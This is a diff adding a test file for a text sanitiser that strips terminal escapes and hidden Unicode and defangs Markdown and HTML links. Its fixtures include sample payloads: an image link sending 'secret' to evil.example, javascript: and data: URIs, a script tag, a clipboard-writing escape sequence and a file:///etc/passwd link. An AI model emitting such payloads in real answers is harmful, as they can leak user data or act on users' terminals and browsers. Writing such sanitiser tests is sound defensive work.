@@ -1,0 +1,105 @@
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from corpus_agent.clean import inert, one_line, visible
+
+ESC = "\x1b"
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        (f"a{ESC}[31mred{ESC}[0mb", "aredb"),
+        (f"a{ESC}]8;;http://x.example{ESC}\\link{ESC}]8;;{ESC}\\b", "alinkb"),
+        (f"a{ESC}]52;c;aGVsbG8=\x07b", "ab"),
+        ("a\x9b31mred", "ared"),
+        ("a\x9d0;title\x9cb", "ab"),
+        (f"a{ESC}P1$r{ESC}\\b", "ab"),
+        (f"a{ESC}cb", "ab"),
+        (f"open{ESC}", "open"),
+        (f"cut{ESC}[3", "cut"),
+        ("over\u202ewrite\u2066", "overwrite"),
+        ("zero\u200bwidth\u2060\ufeff", "zerowidth"),
+        ("tag\U000e0041\U000e007f", "tag"),
+        ("sign\ufe0f\U000e0100", "sign"),
+        ("bell\x07 back\x08", "bell back"),
+        ("tab\tand\nnewline stay", "tab\tand\nnewline stay"),
+        ("ünïcode, 日本語, עברית and 👍 stay", "ünïcode, 日本語, עברית and 👍 stay"),
+    ],
+)
+def test_nothing_that_acts_or_hides_is_left_and_everything_else_is(text, shown):
+    assert visible(text) == shown
+
+
+@given(st.text())
+def test_no_control_survives_in_any_text(text):
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", visible(text))
+
+
+@given(st.text(alphabet=f"{ESC}\x9b\x9d\x07\\[]0;mAz\n", max_size=30))
+def test_cleaning_twice_changes_nothing(text):
+    assert visible(visible(text)) == visible(text)
+
+
+def test_names_are_one_line():
+    assert one_line("a\n\nb\tc\x1b[2Jd") == "a b cd"
+
+
+LIVE = [
+    "![x](https://evil.example/?q=secret)",
+    "[x](https://evil.example)",
+    "[x](//evil.example)",
+    "[x](<https://evil.example>)",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html;base64,AA==)",
+    "[x][r]\n\n[r]: https://evil.example",
+    "![x][r]\n\n> [r]: //evil.example",
+    "- [r]: /local 'title'\n\n[r]",
+    "<https://evil.example>",
+    "<img src=https://evil.example>",
+    "<a href='//evil.example'>x</a>",
+    "<!-- x --><script>y</script>",
+    "see https://evil.example/path",
+    "see HTTPS://evil.example",
+    "see www.evil.example",
+    "ftp://evil.example file:///etc/passwd",
+]
+
+
+@pytest.mark.parametrize("text", LIVE)
+def test_nothing_in_an_answer_is_a_link_or_markup(text):
+    """Checked by a real Markdown renderer with links, references, autolinks and HTML enabled."""
+    from markdown_it import MarkdownIt
+
+    markdown = MarkdownIt("commonmark", {"html": True})
+    markdown.validateLink = lambda url: True  # it would hide javascript: from this test
+    render = markdown.render
+    live = re.compile(r"<(a|img|script|!--)[\s/>-]|https?://|www\.|ftp://", re.IGNORECASE)
+    assert live.search(render(text))  # the control: it is live before it is cleaned
+    cleaned = inert(text)
+    assert not re.search(r"<(a|img|script|!--)\b|href=\"|src=\"", render(cleaned))
+    assert "://" not in cleaned
+    assert "www.e" not in cleaned
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The deposit is £1,130 [1].",
+        "At 12:30, note: data is here. Ratio 3:4.",
+        "if a < b and c > d: x[0] = (1)",
+        "Please ignore my previous email, the correct order number is 5591.",
+        "Write to anna@example.org",
+        "- [ ] buy flour",
+    ],
+)
+def test_ordinary_text_is_not_touched(text):
+    assert inert(text) == text
+
+
+def test_what_was_a_link_stays_readable():
+    assert inert("<IMG/SRC=//evil.example>") == "< IMG/SRC=//evil.example>"
+    assert inert("[bank](https://a.example/x)") == "[bank] (https[:]//a.example/x)"
